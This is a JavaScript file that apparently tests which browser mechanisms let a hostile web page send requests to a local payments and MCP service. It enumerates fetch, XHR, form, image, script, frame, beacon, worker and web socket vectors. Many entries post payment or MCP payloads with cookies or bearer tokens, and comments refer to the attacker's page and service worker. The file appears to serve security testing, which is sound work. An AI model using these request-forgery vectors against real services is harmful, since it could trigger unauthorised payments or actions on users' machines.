// Every way a page has to make the browser send something: name, path on the target, and what to do with the address.

const HEALTH = "/healthz", OPEN = "/open", LIST = "/v1/payments", BUDGET = "/v1/budget", PAY = "/v1/payments";
const FETCH = "/v1/fetch", MCP = "/mcp", CANCEL = "/v1/payments/pay_00000000000000000000000000000000/cancel";

const json = { "Content-Type": "application/json" };
const token = { Authorization: `Bearer ${plan.token}` };
const post = (body, more) => ({ method: "POST", body, ...more });
const blind = { mode: "no-cors" };
const say = (statement) => `${statement}.then((a) => a.status, () => 0).then((s) => (self.postMessage ?? self.reply)(s))`;
const shared = (script) => `onconnect = ({ ports: [p] }) => { self.reply = (s) => p.postMessage(s); ${script} }`;

const fetches = {
  "fetch": [HEALTH, {}],
  "fetch no-cors": [LIST, blind],
  "fetch no-cors mcp": [MCP, blind],
  "fetch same-origin": [BUDGET, { mode: "same-origin" }],
  "fetch with cookies": [LIST, { credentials: "include" }],
  "fetch no-cors with cookies": [BUDGET, { ...blind, credentials: "include" }],
  "fetch without referrer": [PAY, post(plan.pay, { ...blind, referrerPolicy: "no-referrer" })],
  "fetch open": [OPEN, {}],
  "fetch open no-cors": [OPEN, blind],
  "fetch loopback address space": [LIST, { targetAddressSpace: "loopback" }],
  "fetch head": [HEALTH, { method: "HEAD", ...blind }],
  "fetch post text": [PAY, post(plan.pay, blind)],
  "fetch post text cors": [PAY, post(plan.pay)],
  "fetch post form": [PAY, post(new URLSearchParams({ body: plan.pay }), blind)],
  "fetch post multipart": [FETCH, () => { const data = new FormData(); data.set("body", plan.fetch); return post(data, blind); }],
  "fetch post json": [PAY, post(plan.pay, { headers: json })],
  "fetch post json no-cors": [FETCH, post(plan.fetch, { headers: json, ...blind })],
  "fetch post json blob": [PAY, post(new Blob([plan.pay], { type: "application/json" }), blind)],
  "fetch post text that says json": [PAY, post(plan.pay, { headers: { "Content-Type": "text/plain; application/json" }, ...blind })],
  "fetch post bytes": [PAY, post(new TextEncoder().encode(plan.pay), blind)],
  "fetch post keepalive": [PAY, post(plan.pay, { keepalive: true, ...blind })],
  "fetch post cancel": [CANCEL, post("", blind)],
  "fetch post mcp": [MCP, post(plan.mcp, blind)],
  "fetch post mcp json": [MCP, post(plan.mcp, { headers: { ...json, Accept: "application/json, text/event-stream" } })],
  "fetch put": [PAY, { method: "PUT", body: plan.pay }],
  "fetch patch": [PAY, { method: "PATCH", body: plan.pay }],
  "fetch delete": [MCP, { method: "DELETE" }],
  "fetch options": [PAY, { method: "OPTIONS" }],
  "fetch with token": [LIST, { headers: token }],
  "fetch with token no-cors": [LIST, { headers: token, ...blind }],
  "fetch post json with token": [PAY, post(plan.pay, { headers: { ...json, ...token } })],
  "fetch post text with token": [PAY, post(plan.pay, { headers: token, ...blind })],
  "fetch post mcp with token": [MCP, post(plan.mcp, { headers: { ...json, ...token, Accept: "application/json, text/event-stream" } })],
  "fetch post fetch with token": [FETCH, post(plan.fetch, { headers: { ...json, ...token }, credentials: "include" })],
};

const redirects = {
  "redirected fetch": [HEALTH, (url) => ask(redirect(302, url))],
  "redirected fetch no-cors": [LIST, (url) => ask(redirect(302, url), blind)],
  "redirected post 307": [PAY, (url) => ask(redirect(307, url), post(plan.pay, blind))],
  "redirected post 308": [MCP, (url) => ask(redirect(308, url), post(plan.mcp, blind))],
  "redirected image": [OPEN, (url) => element("img", { src: redirect(302, url) })],
  "redirected script": [LIST, (url) => element("script", { src: redirect(302, url) })],
  "redirected frame": [OPEN, (url) => element("iframe", { src: redirect(302, url) })],
  "redirected form": [PAY, (url) => submit(redirect(307, url), { method: "post", enctype: "text/plain" }, ...plan.field)],
};

const elements = {
  "image": [LIST, (url) => element("img", { src: url })],
  "image open": [OPEN, (url) => element("img", { src: url })],
  "image without referrer": [LIST, (url) => element("img", { src: url, referrerpolicy: "no-referrer" })],
  "image crossorigin": [HEALTH, (url) => element("img", { src: url, crossorigin: "use-credentials" })],
  "image srcset": [LIST, (url) => element("img", { srcset: `${url} 1x` })],
  "image in svg": [LIST, (url) => silent("svg", {}, `<svg><image href="${url}" width="9" height="9"/></svg>`)],
  "image input": [LIST, (url) => element("input", { type: "image", src: url })],
  "script": [LIST, (url) => element("script", { src: url })],
  "script module": [MCP, (url) => element("script", { src: url, type: "module" })],
  "style sheet": [LIST, (url) => element("link", { rel: "stylesheet", href: url })],
  "style import": [HEALTH, (url) => element("style", {}, `@import url("${url}");`)],
  "style background": [LIST, (url) => silent("p", { style: `background: url("${url}")` }, "text")],
  "style font": [LIST, (url) => silent("p", {}, `<style>@font-face { font-family: "${url}"; src: url("${url}") }</style><b style='font-family: "${url}"'>text</b>`)],
  "link prefetch": [HEALTH, (url) => silent("link", { rel: "prefetch", href: url })],
  "link preload": [LIST, (url) => silent("link", { rel: "preload", as: "image", href: url })],
  "link preload fetch": [MCP, (url) => silent("link", { rel: "preload", as: "fetch", href: url, crossorigin: "anonymous" })],
  "link modulepreload": [MCP, (url) => silent("link", { rel: "modulepreload", href: url })],
  "frame": [OPEN, (url) => element("iframe", { src: url })],
  "frame sandboxed": [OPEN, (url) => element("iframe", { src: url, sandbox: "allow-scripts" })],
  "frame in a frame": [LIST, (url) => frame(`<iframe src="${url}"></iframe>`)],
  "frame of data": [LIST, (url) => silent("iframe", { src: `data:text/html,<script src="${url}"></script><img src="${url}">` })],
  "frame that refreshes": [OPEN, (url) => frame(`<meta http-equiv="refresh" content="0;url=${url}">`)],
  "frame that navigates": [OPEN, (url) => frame(`<script>location = ${JSON.stringify(url)}</script>`)],
  "frame that reports": [PAY, (url) => silent("iframe", { src: `${plan.attacker}/reporting?to=${encodeURIComponent(url)}` })],
  "frame sandboxed that fetches": [PAY, (url) => frame(`<script>fetch(${JSON.stringify(url)}, { method: "POST", mode: "no-cors", body: "{}" })</script>`, { sandbox: "allow-scripts" })],
  "object": [OPEN, (url) => element("object", { data: url, type: "text/html" })],
  "embed": [OPEN, (url) => element("embed", { src: url, type: "text/html" })],
  "video": [LIST, (url) => silent("video", { src: url, preload: "auto" })],
  "video poster": [LIST, (url) => silent("video", { poster: url })],
  "audio": [LIST, (url) => silent("audio", { src: url, preload: "auto" })],
  "track": [HEALTH, (url) => silent("video", { crossorigin: "anonymous" }, `<track default kind="captions" src="${url}">`)],
  "form get": [LIST, (url) => submit(url, { method: "get" }, "vector", new URL(url).searchParams.get("vector"))],
  "form post": [PAY, (url) => submit(url, { method: "post" }, ...plan.field)],
  "form post text": [PAY, (url) => submit(url, { method: "post", enctype: "text/plain" }, ...plan.field)],
  "form post multipart": [FETCH, (url) => submit(url, { method: "post", enctype: "multipart/form-data" }, ...plan.field)],
  "form post mcp": [MCP, (url) => submit(url, { method: "post", enctype: "text/plain" }, ...plan.field)],
  "form post sandboxed": [PAY, (url) => frame(sending(url, { method: "post", enctype: "text/plain" }, ...plan.field), { sandbox: "allow-forms allow-scripts" })],
};

const others = {
  "xhr": [HEALTH, (url) => xhr("GET", url)],
  "xhr with cookies": [LIST, (url) => xhr("GET", url, { credentials: true })],
  "xhr post text": [PAY, (url) => xhr("POST", url, { body: plan.pay })],
  "xhr post json": [PAY, (url) => xhr("POST", url, { body: plan.pay, headers: json })],
  "xhr post json with token": [MCP, (url) => xhr("POST", url, { body: plan.mcp, headers: { ...json, ...token } })],
  "beacon": [PAY, (url) => navigator.sendBeacon(url, plan.pay)],
  "beacon form": [FETCH, (url) => navigator.sendBeacon(url, new URLSearchParams({ body: plan.fetch }))],
  "beacon json": [MCP, (url) => navigator.sendBeacon(url, new Blob([plan.mcp], { type: "application/json" }))],
  "ping": [PAY, (url) => { const a = document.createElement("a"); a.ping = url; a.href = "#here"; document.body.append(a); a.click(); a.remove(); }],
  "event source": [MCP, (url) => stream(new EventSource(url), url)],
  "event source with cookies": [HEALTH, (url) => stream(new EventSource(url, { withCredentials: true }), url)],
  "web socket": [MCP, (url) => stream(new WebSocket(url.replace("http", "ws")), url)],
  "web socket with token": [LIST, (url) => stream(new WebSocket(url.replace("http", "ws"), ["bearer", plan.token]), url)],
  "worker fetch": [PAY, (url) => work(Worker, url, say(`fetch(target, { method: "POST", mode: "no-cors", body: "{}" })`))],
  "worker fetch with token": [LIST, (url) => work(Worker, url, say(`fetch(target, { headers: ${JSON.stringify(token)} })`))],
  "worker import": [LIST, (url) => work(Worker, url, `importScripts(target)`)],
  "shared worker fetch": [LIST, (url) => work(SharedWorker, url, shared(say(`fetch(target)`)))],
  "service worker fetch": [LIST, (url) => served(url)],
  "window": [OPEN, (url) => popup(() => open(url))],
  "window by form": [PAY, (url) => popup(() => windowed(sending(url, { method: "post", enctype: "text/plain" }, ...plan.field)))],
};

/** Waits for the end of a stream; an open one is an answer. */
function stream(source, url) {
  return new Promise((resolve) => {
    source.onopen = () => { read(url, 101); resolve(); };
    source.onerror = resolve;
  }).finally(() => source.close());
}

/** A window with this document. */
function windowed(html) {
  const opened = open("about:blank");
  opened?.document.write(html);
  return opened;
}

/** Has the attacker's service worker fetch it; only a page that counts as secure may have one. */
async function served(url) {
  if (!navigator.serviceWorker) return;
  await navigator.serviceWorker.register("/worker.js");
  const { active } = await navigator.serviceWorker.ready;
  const channel = new MessageChannel();
  const answered = new Promise((resolve) => { channel.port1.onmessage = resolve; });
  active.postMessage(url, [channel.port2]);
  const { data } = await answered;
  if (data > 0) read(url, data);
}
